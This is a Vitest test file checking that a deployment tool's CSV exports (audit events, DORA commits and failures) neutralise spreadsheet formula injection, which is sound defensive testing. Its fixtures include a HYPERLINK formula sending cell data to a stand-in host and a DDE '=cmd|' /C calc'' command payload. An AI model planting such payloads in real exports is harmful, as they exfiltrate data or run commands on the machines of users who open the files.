import { describe, expect, it } from "vitest";
import { auditEventsToCsv, csvCell } from "@/lib/domain/audit/audit-csv";
import { commitsToCsv, failuresToCsv } from "@/lib/dora/csv";
import type { AuditEventView } from "@/lib/domain/audit/list-audit-events";

/** Splits one CSV line into its cells (RFC 4180 quoting), to read back what a spreadsheet would get. */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = "";
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else value += line[i++];
      }
      out.push(value);
      i++;
    } else {
      const end = line.indexOf(",", i);
      out.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return out;
}

describe("csvCell", () => {
  it.each([
    ["=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"],
    ["+1+2", "'+1+2"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["   =1+1", "'   =1+1"],
    ["\uff1d1+1", "'\uff1d1+1"],
    ["\uff20SUM(1)", "'\uff20SUM(1)"],
  ])("puts a quote before a text cell a spreadsheet would run as a formula: %j", (value, expected) => {
    expect(cells(csvCell(value))).toEqual([expected]);
  });

  it("leaves text that only contains formula characters later alone", () => {
    expect(csvCell("fix: a=b+c @here")).toBe("fix: a=b+c @here");
    expect(csvCell("2026-01-05T00:00:00.000Z")).toBe("2026-01-05T00:00:00.000Z");
  });

  it("keeps numbers numbers, negative ones included", () => {
    expect(csvCell(-0.25)).toBe("-0.25");
    expect(csvCell(3)).toBe("3");
    expect(csvCell(10n)).toBe("10");
  });

  it("quotes commas, quotes and line breaks (RFC 4180), after neutralising a formula", () => {
    expect(csvCell('say "hi", then\nleave')).toBe('"say ""hi"", then\nleave"');
    expect(csvCell('=cmd|" /C calc"!A0')).toBe(`"'=cmd|"" /C calc""!A0"`);
  });

  it("writes empty cells for null and undefined, ISO times for dates and JSON for objects", () => {
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(new Date("2026-03-01T10:00:00Z"))).toBe("2026-03-01T10:00:00.000Z");
    expect(cells(csvCell({ reason: "=1+1" }))).toEqual(['{"reason":"=1+1"}']);
  });
});

describe("CSV exports", () => {
  it("the audit export neutralises a hostile actor label and keeps JSON columns readable", () => {
    const event = {
      id: "e1",
      occurredAt: new Date("2026-03-01T10:00:00Z"),
      actorLabel: "@evil (token =1+1)",
      action: "environment.hold",
      targetType: "Environment",
      targetId: "t1",
      serviceId: null,
      environmentId: null,
      before: null,
      after: { reason: "-2+3" },
      requestId: null,
      ip: "127.0.0.1",
    } as unknown as AuditEventView;
    const [header, row] = auditEventsToCsv([event]).split("\r\n");
    expect(cells(header!)).toContain("actorLabel");
    const byColumn = Object.fromEntries(cells(header!).map((name, i) => [name, cells(row!)[i]]));
    expect(byColumn.actorLabel).toBe("'@evil (token =1+1)");
    expect(byColumn.after).toBe('{"reason":"-2+3"}');
  });

  it("the DORA commits export neutralises a hostile message and author, and keeps a negative lead time a number", () => {
    const csv = commitsToCsv([
      {
        sha: "abc1234",
        message: '=HYPERLINK("https://evil.example/?d="&A1,"open")\nsecond line',
        authorName: "+Mallory",
        authorEmail: "mallory@example.com",
        service: "checkout-web",
        committedAt: new Date("2026-03-01T10:00:00Z"),
        deployedAt: new Date("2026-03-01T09:00:00Z"),
        deploymentId: "d1",
        version: "1.2.3",
        leadTimeSeconds: -3600,
        excluded: true,
      },
    ]);
    const [header, row] = csv.split("\r\n");
    const byColumn = Object.fromEntries(cells(header!).map((name, i) => [name, cells(row!)[i]]));
    expect(byColumn.message).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"open")`);
    expect(byColumn.author_name).toBe("'+Mallory");
    expect(byColumn.lead_time_hours).toBe("-1");
  });

  it("the DORA failures export neutralises a hostile incident title", () => {
    const csv = failuresToCsv([
      {
        kind: "incident",
        id: "i1",
        title: "=cmd|' /C calc'!A0 outage",
        severity: "major",
        service: "checkout-web",
        environment: "prod",
        deployment: null,
        startedAt: new Date("2026-03-01T10:00:00Z"),
        restoredAt: null,
        restoreSeconds: null,
        restoredBy: null,
      },
    ]);
    const [header, row] = csv.split("\r\n");
    const byColumn = Object.fromEntries(cells(header!).map((name, i) => [name, cells(row!)[i]]));
    expect(byColumn.title).toBe("'=cmd|' /C calc'!A0 outage");
  });
});
